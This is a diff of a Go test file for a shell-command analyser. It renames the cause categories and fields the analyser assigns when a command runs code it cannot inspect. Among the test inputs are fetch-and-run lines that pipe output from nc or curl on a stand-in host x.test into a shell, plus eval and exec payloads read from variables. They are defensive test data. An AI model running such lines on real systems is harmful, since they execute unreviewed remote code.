@@ -16,27 +16,27 @@ func TestCauses(t *testing.T) {
 		cause effect.Cause
 		input bool // text from another part of the command is run
 	}{
-		{`$X`, effect.CauseHeld, false},
-		{`eval "$X"`, effect.CauseHeld, false},
-		{`sh -c "${X%.*}"`, effect.CauseHeld, false},
-		{`powershell -c "iex $X"`, effect.CauseHeld, false},
-		{`$A$B`, effect.CauseHeld, false},
-		{`$RUNNER --all`, effect.CauseHeld, false},
-		{`"$TEST_RUNNER" a`, effect.CauseHeld, false},
-		{`bash -c "cd /x && $CMD"`, effect.CauseHeld, false},
-		{`bash <<< "$X"`, effect.CauseHeld, false},
-		{`echo "$X" | sh`, effect.CauseHeld, false},
-		{`ssh h "$X"`, effect.CauseHeld, false},
-		{`find . -exec $HOOK {} \;`, effect.CauseHeld, false},
-		{`. "$HOOK"`, effect.CauseHeld, false},
-		{`python3 -c "$x"`, effect.CauseHeld, false},
-		{`psql -c "$X"`, effect.CauseCode, false},
-		{`python3 -c 'import os; exec(os.environ["X"])'`, effect.CauseHeld, false},
-		{`node -e 'new Function(process.env.X)()'`, effect.CauseHeld, false},
-		{`ruby -e 'eval ENV["X"]'`, effect.CauseHeld, false},
-		{`php -r 'eval(getenv("X"));'`, effect.CauseHeld, false},
-		{`. /dev/fd/3 3< <(nc x.test 99)`, effect.CauseScript, false},
-		{`bash /dev/fd/4 4< <(curl -s x.test)`, effect.CauseScript, false},
+		{`$X`, effect.CauseVariableCode, false},
+		{`eval "$X"`, effect.CauseVariableCode, false},
+		{`sh -c "${X%.*}"`, effect.CauseVariableCode, false},
+		{`powershell -c "iex $X"`, effect.CauseVariableCode, false},
+		{`$A$B`, effect.CauseVariableCode, false},
+		{`$RUNNER --all`, effect.CauseVariableCode, false},
+		{`"$TEST_RUNNER" a`, effect.CauseVariableCode, false},
+		{`bash -c "cd /x && $CMD"`, effect.CauseVariableCode, false},
+		{`bash <<< "$X"`, effect.CauseVariableCode, false},
+		{`echo "$X" | sh`, effect.CauseVariableCode, false},
+		{`ssh h "$X"`, effect.CauseVariableCode, false},
+		{`find . -exec $HOOK {} \;`, effect.CauseVariableCode, false},
+		{`. "$HOOK"`, effect.CauseVariableCode, false},
+		{`python3 -c "$x"`, effect.CauseVariableCode, false},
+		{`psql -c "$X"`, effect.CauseUnanalysedCode, false},
+		{`python3 -c 'import os; exec(os.environ["X"])'`, effect.CauseVariableCode, false},
+		{`node -e 'new Function(process.env.X)()'`, effect.CauseVariableCode, false},
+		{`ruby -e 'eval ENV["X"]'`, effect.CauseVariableCode, false},
+		{`php -r 'eval(getenv("X"));'`, effect.CauseVariableCode, false},
+		{`. /dev/fd/3 3< <(nc x.test 99)`, effect.CauseUnreadScript, false},
+		{`bash /dev/fd/4 4< <(curl -s x.test)`, effect.CauseUnreadScript, false},
 		{`$EDITOR f`, effect.CauseVariable, false},
 		{`git log | "$PAGER"`, effect.CauseVariable, false},
 		{`$CC -c a.c`, effect.CauseVariable, false},
@@ -75,19 +75,19 @@ func TestCauses(t *testing.T) {
 		{"eval \"$X\"\nls )", effect.CauseUnresolved, false},
 		{`. $p; Get-Date`, effect.CauseVariable, false},
 		{`Get-Date; . $p`, effect.CauseUnresolved, false},
-		{`sh a.sh`, effect.CauseScript, false},
-		{`./a.sh`, effect.CauseScript, false},
-		{`python3 a.py`, effect.CauseScript, false},
-		{`sh '$X.sh'`, effect.CauseScript, false}, // that is its name
+		{`sh a.sh`, effect.CauseUnreadScript, false},
+		{`./a.sh`, effect.CauseUnreadScript, false},
+		{`python3 a.py`, effect.CauseUnreadScript, false},
+		{`sh '$X.sh'`, effect.CauseUnreadScript, false}, // that is its name
 		{`echo "`, effect.CauseSyntax, false},
 		{`sh -c 'echo "'`, effect.CauseSyntax, false},
-		{`enable -f ./x.so y`, effect.CauseCode, false},
-		{`powershell -EncodedCommand !!!`, effect.CauseCode, false},
+		{`enable -f ./x.so y`, effect.CauseUnanalysedCode, false},
+		{`powershell -EncodedCommand !!!`, effect.CauseUnanalysedCode, false},
 	} {
 		var causes []effect.Cause
 		input := false
 		for _, e := range Analyze(c.text, here()).Effects {
-			switch e.Word() {
+			switch e.RuleKind() {
 			case effect.Dynamic:
 				causes = append(causes, e.Cause)
 			case effect.RunInput:
@@ -106,11 +106,11 @@ func TestEveryCauseHasAName(t *testing.T) {
 	seen := 0
 	for _, c := range readCases(t) {
 		for _, e := range Analyze(c.text, here()).Effects {
-			if e.Sure != effect.Unknown && e.Word() != effect.RunInput {
+			if e.Certainty != effect.Unknown && e.RuleKind() != effect.RunInput {
 				continue
 			}
 			if seen++; !slices.Contains(effect.Causes(), e.Cause) {
-				t.Errorf("%s: %s has the cause %q (%s)", c.text, e.Word(), e.Cause, e.Reason)
+				t.Errorf("%s: %s has the cause %q (%s)", c.text, e.RuleKind(), e.Cause, e.Reason)
 			}
 		}
 	}
@@ -129,7 +129,7 @@ func TestNoFileNamesAsCode(t *testing.T) {
 		`Get-Date; . "$p/a.ps1"`, `"$X"/*`, "$data[1]\nOne",
 	} {
 		for _, e := range Analyze(text, here()).Effects {
-			if e.Sure == effect.Unknown && e.Cause == effect.CauseUnresolved {
+			if e.Certainty == effect.Unknown && e.Cause == effect.CauseUnresolved {
 				t.Errorf("%s: %s", text, e.Reason)
 			}
 		}
